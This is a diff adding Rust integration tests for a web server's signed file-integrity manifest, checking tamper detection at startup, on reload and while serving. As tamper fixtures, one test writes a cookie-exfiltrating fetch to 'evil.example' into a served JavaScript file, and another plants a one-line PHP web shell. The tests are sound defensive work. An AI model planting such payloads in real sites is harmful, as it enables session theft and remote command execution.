@@ -4,8 +4,12 @@
 
 use std::path::Path;
 use std::process::{Command, Output};
+use std::sync::atomic::Ordering;
+use std::time::{Duration, Instant};
 
-use rampart_test_support::TempDir;
+use rampart_config::{load_str, Source};
+use rampart_server::{Edge, Running};
+use rampart_test_support::{client, eventually, TempDir};
 
 use crate::harness::{bin, finding_ids, id_set, json_report, python};
 
@@ -279,8 +283,8 @@ fn a_signed_manifest_catches_changed_missing_and_extra_files() {
             "cannot sign rs256",
         ),
         (
-            &["manifest", "build", "static/index.html"][..],
-            "not a directory",
+            &["manifest", "build", "static/no-such"][..],
+            "static/no-such: No such file",
         ),
     ] {
         let out = rampart(dir, args);
@@ -353,5 +357,323 @@ pub.verify(sig, open("integrity.json", "rb").read(), pad, hashes.SHA256())
 "#
         );
         sh(dir, &python(), &["-c", &check]);
+    }
+}
+
+// === [integrity] in `serve` ===
+
+/// A release (static files and rampart's own config) with a manifest signed by an
+/// openssl Ed25519 key; returns the config text.
+fn signed_site(dir: &Path, integrity: &str) -> String {
+    release(dir);
+    sh(
+        dir,
+        "openssl",
+        &["genpkey", "-algorithm", "ed25519", "-out", "ed.pem"],
+    );
+    sh(
+        dir,
+        "openssl",
+        &["pkey", "-in", "ed.pem", "-pubout", "-out", "ed.pub"],
+    );
+    let toml = format!(
+        "[server]\nhttp = \"127.0.0.1:0\"\nenvironment = \"production\"\n\
+         [admin]\nlisten = \"127.0.0.1:0\"\n\
+         [logging]\naccess = \"off\"\naudit = \"audit.log\"\n\
+         [integrity]\nmanifest = \"integrity.json\"\n{integrity}\n\
+         [[routes]]\npath = \"/\"\nstatic = \"static\"\n"
+    );
+    std::fs::write(dir.join("rampart.toml"), &toml).unwrap();
+    ok(&rampart(
+        dir,
+        &[
+            "manifest",
+            "build",
+            "static",
+            "rampart.toml",
+            "-o",
+            "integrity.json",
+            "--exclude",
+            "**/*.map",
+        ],
+    ));
+    ok(&rampart(
+        dir,
+        &["manifest", "sign", "integrity.json", "--key", "ed.pem"],
+    ));
+    toml
+}
+
+/// Loads `toml` from `dir`; `tick` replaces the re-verification interval (the config's
+/// floor is 10s, too slow for a test).
+fn edge_of(dir: &Path, toml: &str, tick: Option<Duration>) -> Result<Edge, String> {
+    let mut config = load_str(
+        toml,
+        &Source {
+            name: "rampart.toml".into(),
+            base_dir: dir.to_path_buf(),
+            env: &rampart_config::process_env,
+        },
+    )
+    .map_err(|e| e.to_string())?;
+    config.server.state_dir = dir.join("state");
+    if let (Some(i), Some(t)) = (config.integrity.as_mut(), tick) {
+        i.interval = Some(t);
+    }
+    Edge::build(config, "rampart.toml").map_err(|e| e.to_string())
+}
+
+async fn start_edge(dir: &Path, toml: &str, tick: Option<Duration>) -> Result<Running, String> {
+    rampart_test_support::raise_open_files();
+    rampart_server::start(edge_of(dir, toml, tick)?)
+        .await
+        .map_err(|e| format!("{e:#}"))
+}
+
+async fn admin_get(r: &Running, path: &str) -> client::Resp {
+    client::plain(r.live.admin_addr().unwrap(), client::get("admin", path)).await
+}
+
+async fn integrity_health(r: &Running, want: &str) -> serde_json::Value {
+    let deadline = Instant::now() + Duration::from_secs(15);
+    loop {
+        let h = admin_get(r, "/health").await.json();
+        if h["integrity"]["status"] == want {
+            return h;
+        }
+        assert!(Instant::now() < deadline, "integrity never {want}: {h:#}");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+}
+
+fn audited(dir: &Path, event: &str) -> bool {
+    std::fs::read_to_string(dir.join("audit.log")).is_ok_and(|a| {
+        a.lines()
+            .any(|l| l.contains(&format!("\"event\":\"{event}\"")))
+    })
+}
+
+async fn wait_audited(dir: &Path, event: &str) {
+    let found = eventually(Duration::from_secs(3), || audited(dir, event).then_some(())).await;
+    assert!(
+        found.is_some(),
+        "no {event} in {:?}",
+        std::fs::read_to_string(dir.join("audit.log"))
+    );
+}
+
+fn metric(text: &str, name: &str) -> Option<f64> {
+    text.lines()
+        .find(|l| l.starts_with(name) && l[name.len()..].starts_with(' '))
+        .and_then(|l| l[name.len() + 1..].trim().parse().ok())
+}
+
+/// Production, `on_mismatch = "refuse"`: a clean tree starts and reports itself; a file
+/// changed while serving is found by the periodic check (audited, `/health` degraded,
+/// the metric 0) while requests are still answered; a reload and a fresh start on the
+/// changed tree are refused naming the file; restoring it clears everything.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn integrity_is_checked_at_start_on_reload_and_while_serving() {
+    let tmp = TempDir::new("integrity-serve");
+    let dir = tmp.path();
+    let toml = signed_site(dir, "public_key_file = \"ed.pub\"");
+    let tick = Some(Duration::from_millis(200));
+    let running = start_edge(dir, &toml, tick).await.unwrap();
+    let http = running.http_addr.unwrap();
+
+    let h = integrity_health(&running, "ok").await;
+    let i = &h["integrity"];
+    assert_eq!(h["status"], "healthy", "{h:#}");
+    assert_eq!(i["files"], 5, "{h:#}");
+    assert_eq!(i["signed_with"], "ed25519", "{h:#}");
+    assert_eq!(i["problems"], serde_json::json!([]), "{h:#}");
+    let m = admin_get(&running, "/metrics").await.text();
+    assert_eq!(metric(&m, "rampart_integrity_ok"), Some(1.0), "{m}");
+    assert_eq!(metric(&m, "rampart_integrity_problems"), Some(0.0), "{m}");
+    assert!(metric(&m, "rampart_integrity_last_check_timestamp_seconds").unwrap() > 1.7e9);
+    assert_eq!(
+        client::plain(http, client::get("x", "/index.html"))
+            .await
+            .status,
+        200
+    );
+
+    // Changed on disk while serving: found by the next periodic check.
+    let app = dir.join("static/assets/app.3f2a.js");
+    let original = std::fs::read(&app).unwrap();
+    std::fs::write(&app, "fetch('https://evil.example/?c='+document.cookie)").unwrap();
+    let h = integrity_health(&running, "mismatch").await;
+    assert_eq!(h["status"], "degraded", "{h:#}");
+    let problems = h["integrity"]["problems"].to_string();
+    assert!(
+        problems.contains("changed: ") && problems.contains("static/assets/app.3f2a.js"),
+        "{h:#}"
+    );
+    wait_audited(dir, "integrity.mismatch").await;
+    let m = admin_get(&running, "/metrics").await.text();
+    assert_eq!(metric(&m, "rampart_integrity_ok"), Some(0.0), "{m}");
+    assert_eq!(metric(&m, "rampart_integrity_problems"), Some(1.0), "{m}");
+    assert_eq!(
+        client::plain(http, client::get("x", "/index.html"))
+            .await
+            .status,
+        200,
+        "a running edge keeps serving; the operator is told"
+    );
+
+    // A reload on the changed tree is refused and the old config stays.
+    let err = running
+        .live
+        .reload(edge_of(dir, &toml, tick).unwrap())
+        .await
+        .unwrap_err();
+    assert!(err.contains("app.3f2a.js"), "{err}");
+    assert_eq!(
+        running.live.process.reloads.failed.load(Ordering::Relaxed),
+        1
+    );
+    // So is a fresh production start, before any port is bound, naming the file.
+    let err = start_edge(dir, &toml, tick).await.err().unwrap();
+    assert!(
+        err.contains("integrity: 1 problem") && err.contains("static/assets/app.3f2a.js"),
+        "{err}"
+    );
+
+    // Restored: clean again, audited, and a reload goes through.
+    std::fs::write(&app, &original).unwrap();
+    integrity_health(&running, "ok").await;
+    wait_audited(dir, "integrity.restored").await;
+    running
+        .live
+        .reload(edge_of(dir, &toml, tick).unwrap())
+        .await
+        .unwrap();
+    // rampart's own config is covered too: an edited config is caught.
+    std::fs::write(
+        dir.join("rampart.toml"),
+        toml.replace("audit.log", "elsewhere.log"),
+    )
+    .unwrap();
+    let err = start_edge(dir, &toml, tick).await.err().unwrap();
+    assert!(err.contains("rampart.toml"), "{err}");
+    running.shutdown();
+}
+
+/// `on_mismatch = "serve"` starts degraded; a development start is never refused; a
+/// manifest signed by another key, an unreadable or forged manifest refuse a production
+/// start; `require_signed = false` checks the files only; bad settings are config errors.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn mismatches_signatures_and_settings_are_judged_before_serving() {
+    let tmp = TempDir::new("integrity-serve2");
+    let dir = tmp.path();
+    let toml = signed_site(dir, "public_key_file = \"ed.pub\"\non_mismatch = \"serve\"");
+    std::fs::write(dir.join("static/backdoor.php"), "<?php system($_GET['c']);").unwrap();
+
+    let running = start_edge(dir, &toml, None).await.unwrap();
+    let h = integrity_health(&running, "mismatch").await;
+    assert_eq!(h["status"], "degraded", "{h:#}");
+    assert!(
+        h["integrity"]["problems"].to_string().contains("extra: ")
+            && h["integrity"]["problems"]
+                .to_string()
+                .contains("backdoor.php"),
+        "{h:#}"
+    );
+    wait_audited(dir, "integrity.mismatch").await;
+    running.shutdown();
+
+    // The same tree with "refuse": production refuses, development serves degraded.
+    let refuse = toml.replace("on_mismatch = \"serve\"", "on_mismatch = \"refuse\"");
+    let err = start_edge(dir, &refuse, None).await.err().unwrap();
+    assert!(err.contains("backdoor.php"), "{err}");
+    let dev = refuse.replace(
+        "environment = \"production\"",
+        "environment = \"development\"",
+    );
+    let running = start_edge(dir, &dev, None).await.unwrap();
+    integrity_health(&running, "mismatch").await;
+    running.shutdown();
+    std::fs::remove_file(dir.join("static/backdoor.php")).unwrap();
+
+    // Another vendor's key: the list proves nothing, so nothing starts.
+    sh(
+        dir,
+        "openssl",
+        &["genpkey", "-algorithm", "ed25519", "-out", "other.pem"],
+    );
+    sh(
+        dir,
+        "openssl",
+        &["pkey", "-in", "other.pem", "-pubout", "-out", "other.pub"],
+    );
+    let other = refuse.replace("ed.pub", "other.pub");
+    let err = start_edge(dir, &other, None).await.err().unwrap();
+    assert!(err.contains("signature"), "{err}");
+    // A manifest edited after signing (a file added to the list) fails its signature.
+    let manifest = std::fs::read_to_string(dir.join("integrity.json")).unwrap();
+    std::fs::write(
+        dir.join("integrity.json"),
+        manifest.replace("\"created_at\": \"", "\"created_at\": \"1"),
+    )
+    .unwrap();
+    let forged = refuse.clone();
+    let err = start_edge(dir, &forged, None).await.err().unwrap();
+    assert!(err.contains("signature"), "{err}");
+    std::fs::write(dir.join("integrity.json"), "not json").unwrap();
+    let err = start_edge(dir, &forged, None).await.err().unwrap();
+    assert!(err.contains("manifest"), "{err}");
+    std::fs::remove_file(dir.join("integrity.json")).unwrap();
+    let err = start_edge(dir, &forged, None).await.err().unwrap();
+    assert!(err.contains("cannot read"), "{err}");
+
+    // Unsigned, on purpose: files only.
+    let unsigned = refuse.replace("public_key_file = \"ed.pub\"", "require_signed = false");
+    std::fs::write(dir.join("rampart.toml"), &unsigned).unwrap();
+    ok(&rampart(
+        dir,
+        &[
+            "manifest",
+            "build",
+            "static",
+            "rampart.toml",
+            "-o",
+            "integrity.json",
+            "--exclude",
+            "**/*.map",
+        ],
+    ));
+    let running = start_edge(dir, &unsigned, None).await.unwrap();
+    let h = integrity_health(&running, "ok").await;
+    assert_eq!(
+        h["integrity"]["signed_with"],
+        serde_json::Value::Null,
+        "{h:#}"
+    );
+    running.shutdown();
+
+    // Settings that cannot work are config errors, each naming its key.
+    for (bad, key) in [
+        ("", "integrity.public_key"),
+        ("public_key = \"ssh-ed25519 AAAA\"", "integrity.public_key"),
+        (
+            "require_signed = false\non_mismatch = \"ignore\"",
+            "integrity.on_mismatch",
+        ),
+        (
+            "require_signed = false\ninterval = \"5s\"",
+            "integrity.interval",
+        ),
+        (
+            "require_signed = false\nread_rate = \"1KiB\"",
+            "integrity.read_rate",
+        ),
+        ("require_signed = false\nmanifests = \"x\"", "manifests"),
+    ] {
+        let t = refuse.replace(
+            "public_key_file = \"ed.pub\"\non_mismatch = \"refuse\"",
+            bad,
+        );
+        let err = edge_of(dir, &t, None).err().unwrap_or_default();
+        assert!(err.contains(key), "{bad:?}: {err}");
     }
 }
